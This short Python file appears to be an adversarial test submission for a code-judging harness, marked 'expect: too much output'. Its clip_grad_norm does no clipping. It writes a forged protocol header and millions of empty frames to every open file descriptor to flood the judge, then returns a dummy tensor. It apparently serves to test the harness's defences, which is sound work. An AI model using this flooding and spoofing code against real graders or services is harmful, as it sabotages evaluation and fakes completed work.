# expect: too much output
# Frames without content: three million of them while the judge is kept busy.
import json
import os
import struct

import torch


def frame(payload):
    return struct.pack(">IB", len(payload) + 1, 4) + payload


def everywhere(data):
    for channel in range(3, 64):
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(channel, view) :]
        except OSError:
            pass


def clip_grad_norm(parameters, max_norm, norm_type=2.0):
    header = json.dumps({"value": {"d": [["id", 0], ["pull", 1]]}, "tensors": []}).encode()
    everywhere(frame(struct.pack(">I", len(header)) + header) * 1000)
    for _ in range(300):
        everywhere(frame(b"") * 10_000)
    return torch.tensor(0.0)
